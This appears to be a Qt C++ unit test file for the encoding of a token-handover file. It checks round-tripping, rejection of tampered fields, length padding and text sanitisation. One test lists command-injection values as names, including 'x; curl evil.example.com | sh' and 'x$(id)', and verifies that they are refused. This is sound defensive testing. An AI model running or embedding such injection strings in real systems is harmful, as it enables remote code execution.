// SPDX-FileCopyrightText: 2026 The Broker Token Assistant authors
// SPDX-License-Identifier: Apache-2.0

#include "app/clientconfig/configsamples.h"
#include "clientconfig/fieldcheck.h"
#include "handover/content.h"
#include "handoversample.h"
#include "support/testroom.h"

#include <QTest>

using namespace broker;
using namespace broker::handover;
using clientconfig::Carrier;

namespace {

/// For a client of this type, with everything that can be chosen.
Handover sampleOf(const integrations::ClientType &type, bool isFull)
{
    Handover sample = test::handoverSample();
    sample.target = samples::target(QString(type.integration));
    sample.draft.type = type;
    sample.draft.answers = isFull ? test::fullAnswers(type) : test::neededAnswers(type);
    if (isFull) {
        sample.draft.answers.setFurther(
            {{QStringLiteral("COMPANY_MODE"), samples::secret("strict = yes"), false},
                {QStringLiteral("COMPANY_KEY"), samples::secret("a=b\"c$d"), true}});
        sample.draft.place.name = QStringLiteral("own-name");
        sample.draft.place.port = 8123;
        sample.draft.engine = clientconfig::Engine::Podman;
    }
    return sample;
}

Handover thereAndBack(const Handover &handover)
{
    const auto back = decode(encode(handover));
    return back ? *back : throw std::runtime_error("not understood");
}

/// The content with one entry in place of another; without it where the value is null.
Secret with(const Handover &handover, const QByteArray &name, const QByteArray &value)
{
    const QByteArray content = test::bytesOf(encode(handover));
    const auto entryOf = [&name](const QByteArray &of) -> QByteArray {
        const auto size = static_cast<quint32>(of.size());
        return static_cast<char>(name.size()) + name
            + QByteArray::fromHex(QByteArray::number(size, 16).rightJustified(8, '0')) + of;
    };
    const qsizetype at = content.indexOf(QByteArray(static_cast<char>(name.size()) + name));
    const qsizetype sizeAt = at + 1 + name.size();
    const auto size = content.mid(sizeAt, 4).toHex().toLongLong(nullptr, 16);
    const QByteArray changed = content.first(at) + (value.isNull() ? QByteArray() : entryOf(value))
        + content.mid(sizeAt + 4 + size);
    return Secret::take(QByteArray(changed));
}

} // namespace

class TestContent final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    /// What the other saves is, byte for byte, what the sender would have saved.
    void theSameFileOfEveryTypeByEveryCarrier()
    {
        int compared = 0;
        for (const integrations::ClientType &type : integrations::clientTypes()) {
            for (const bool isFull : {false, true}) {
                const Handover before = sampleOf(type, isFull);
                QVERIFY2(!clientconfig::hasErrors(clientconfig::check(before.draft)), type.key.data());
                const Handover after = thereAndBack(before);
                for (const Carrier carrier : clientconfig::carriers()) {
                    const auto one = clientconfig::complete(carrier, before.draft, before.token);
                    const auto other = clientconfig::complete(carrier, after.draft, after.token);
                    QVERIFY(one && other);
                    QCOMPARE(other->has_value(), one->has_value());
                    if (!*one) {
                        QCOMPARE(other->error(), one->error());
                        continue;
                    }
                    QCOMPARE(test::bytesOf((*other)->text), test::bytesOf((*one)->text));
                    QCOMPARE((*other)->fileName, (*one)->fileName);
                    QCOMPARE((*other)->commands.apply, (*one)->commands.apply);
                    ++compared;
                }
            }
        }
        // Not every carrier takes everything that can be chosen.
        QVERIFY2(compared > 20 * 7, qPrintable(QString::number(compared)));
    }

    void whoseItIsComesAlong()
    {
        Handover before = test::handoverSample();
        before.target.profile = QStringLiteral("Release images");
        const Handover after = thereAndBack(before);
        QCOMPARE(after.sender, before.sender);
        QCOMPARE(after.recipient, before.recipient);
        QCOMPARE(after.message, before.message);
        QCOMPARE(after.program, before.program);
        QCOMPARE(after.created, before.created);
        QCOMPARE(after.target, before.target);
        QCOMPARE(after.target.profile, before.target.profile);
        QCOMPARE(after.carrier, before.carrier);
        QVERIFY(after.token == before.token);
    }

    /// No secret is in it, and no earlier version says it.
    void whatTheListSaysOfTheTokenComesAlong()
    {
        Handover before = test::handoverSample();
        QCOMPARE(thereAndBack(before).life, TokenLife());
        before.life = test::lifeSample();
        QCOMPARE(thereAndBack(before).life, before.life);
        for (const auto origin : {records::Origin::Pasted, records::Origin::Retrieved}) {
            before.life.origin = origin;
            before.life.rotated.reset();
            before.life.dueByHand = true;
            QCOMPARE(thereAndBack(before).life, before.life);
        }
        before.life.dueByHand.reset();
        QCOMPARE(thereAndBack(before).life, before.life);
    }

    /// Of very many integrations the first are named, and all are counted.
    void aTokenSharedByVeryManyFitsIntoTheFile()
    {
        records::TokenRecord record = samples::record(samples::brokerToken());
        records::Target target = samples::target();
        target.org.name = QString(200, u'\u00fc');
        target.org.slug = QString(200, u's');
        record.sharedWith = QList<records::Target>(5000, target);
        Handover before = test::handoverSample();
        before.life = lifeOf(record, {});
        const auto file = seal(encode(before), test::label(), ByPassphrase{test::passphrase(), test::cheap});
        QVERIFY(file && file->size() < largestFile);
        const TokenLife after = thereAndBack(before).life;
        QCOMPARE(after.shared, 5000);
        QCOMPARE(after.sharedWith, record.sharedWith.mid(0, mostShared));
    }

    void aClientBesideAnotherGoesToTheSamePlace()
    {
        Handover before = test::handoverSample();
        before.draft.place.beside
            = clientconfig::RunningClient{QStringLiteral("old-client"), 8000, QString(before.draft.type.key)};
        before.draft.place.base = QStringLiteral("old");
        before.draft.place.port = 8001;
        QCOMPARE(thereAndBack(before).draft.place, before.draft.place);
    }

    /// Its names follow from the fingerprint that is on the sender's list.
    void aTokenRecordedInUpperCaseKeepsItsName()
    {
        Handover before = test::handoverSample();
        const Fingerprint recorded
            = Fingerprint::of(Secret::take(QByteArray(samples::brokerTokenText).toUpper()));
        before.draft.token = recorded;
        before.token = before.token.recordedAs(recorded);
        const Handover after = thereAndBack(before);
        QCOMPARE(clientconfig::outlineOf(Carrier::Compose, after.draft).name,
            clientconfig::outlineOf(Carrier::Compose, before.draft).name);
        QVERIFY(clientconfig::outlineOf(Carrier::Compose, after.draft).name
            != clientconfig::outlineOf(Carrier::Compose, test::handoverSample().draft).name);
    }

    void withoutItsCredentialTheRestIsThere()
    {
        for (const integrations::ClientType &type : integrations::clientTypes()) {
            Handover sample = sampleOf(type, true);
            QVERIFY(hasCredential(sample.draft));
            sample.draft = withoutCredential(sample.draft);
            QVERIFY(!hasCredential(sample.draft));
            const Handover after = thereAndBack(sample);
            QVERIFY(!hasCredential(after.draft));
            QCOMPARE(after.draft.answers.text(clientconfig::field::logLevel), QStringLiteral("debug"));
            QCOMPARE(after.draft.answers.further().size(), 1);
        }
    }

    void itsLengthDoesNotTellHowLongASecretIs()
    {
        Handover sample = test::handoverSample();
        const qsizetype size = encode(sample).size();
        QCOMPARE(size % 1024, 0);
        sample.draft.answers.setSecret(clientconfig::field::gitlabToken, samples::secret("glpat-short"));
        QCOMPARE(encode(sample).size(), size);
    }

    void whatIsNotFromThisProgramIsRefused_data()
    {
        QTest::addColumn<QByteArray>("name");
        QTest::addColumn<QByteArray>("value");
        const auto row = [](const char *name, const QByteArray &value) {
            QTest::addRow("%s %s", name, value.isNull() ? "missing" : value.constData())
                << QByteArray(name) << value;
        };
        row("token", "not-a-token");
        row("token", {});
        row("token", samples::otherBrokerTokenText); // not the one of the fingerprint
        row("token.sha256", "00");
        row("region", "SNYK-US-01"); // the API address is another region's
        row("api", "https://api.snyk.example.com");
        row("api", "http://api.eu.snyk.io");
        row("client", "no-such-client");
        row("client", "jira"); // of another integration
        row("integration", "github");
        row("carrier", "pigeon");
        row("engine", "steam");
        row("org.id", "42");
        row("place.port", "0");
        row("place.port", "65536");
        row("place.port", {});
        row("created", "yesterday");
        row("created", "9223372036854775807");
        row("token.created", "yesterday");
        row("token.created", {}); // with the others there
        row("token.rotated", "-1");
        row("token.due", "9223372036854775807");
        row("token.shared.with", "nobody");
        row("answer.gitlabHost", "http://gitlab.example.com/");
    }
    void whatIsNotFromThisProgramIsRefused()
    {
        QFETCH(const QByteArray, name);
        QFETCH(const QByteArray, value);
        Handover sample = test::handoverSample();
        sample.life = test::lifeSample();
        const auto read = decode(with(sample, name, value));
        QVERIFY(!read);
        QCOMPARE(read.error(), Refusal::NotUnderstood);
    }

    /// It stands in the commands that the other one is asked to run.
    void aNameThatIsACommandIsRefused()
    {
        for (const char *name : {"x; curl evil.example.com | sh", "x$(id)", "-rm", "a b", "x\ny"}) {
            Handover sample = test::handoverSample();
            sample.draft.place.name = QString::fromLatin1(name);
            QVERIFY2(!decode(encode(sample)), name);
            sample = test::handoverSample();
            sample.draft.place.base = QString::fromLatin1(name);
            QVERIFY2(!decode(encode(sample)), name);
            sample = test::handoverSample();
            sample.draft.place.beside = clientconfig::RunningClient{
                QString::fromLatin1(name), 8000, QString(sample.draft.type.key)};
            QVERIFY2(!decode(encode(sample)), name);
        }
    }

    void tornContentIsRefused()
    {
        const QByteArray content = test::bytesOf(encode(test::handoverSample()));
        for (qsizetype size = 0; size < content.indexOf("secret.gitlabToken"); ++size)
            QVERIFY2(!decode(Secret::take(content.first(size))), qPrintable(QString::number(size)));
        QVERIFY(!decode(Secret::take(QByteArray("\x05token\xff\xff\xff\xff", 10))));
        QVERIFY(!decode(Secret()));
    }

    void textsOfStrangersAreMadeSafe()
    {
        Handover sample = test::handoverSample();
        sample.sender = QStringLiteral("Ada\n\u202eAdmin") + QString(500, u'x');
        sample.message = QStringLiteral("first\nsecond\u202e\x07") + QString(5000, u'x');
        const Handover after = thereAndBack(sample);
        QVERIFY(!after.sender.contains(u'\n') && !after.sender.contains(QChar(0x202e)));
        QVERIFY(after.sender.size() <= 200);
        QVERIFY(after.message.startsWith(QStringLiteral("first\nsecondx")));
        QVERIFY(after.message.size() <= records::longestNote);
    }

    void aLongMessageDoesNotMakeAFileThatNobodyOpens()
    {
        Handover sample = test::handoverSample();
        sample.message = QString(2 * largestFile, u'x');
        const auto file = seal(encode(sample), test::label(), ByPassphrase{test::passphrase(), test::cheap});
        QVERIFY(file && file->size() < largestFile);
        QCOMPARE(thereAndBack(sample).message.size(), records::longestNote);
    }
};

BTA_TEST(TestContent)
#include "tst_content.moc"
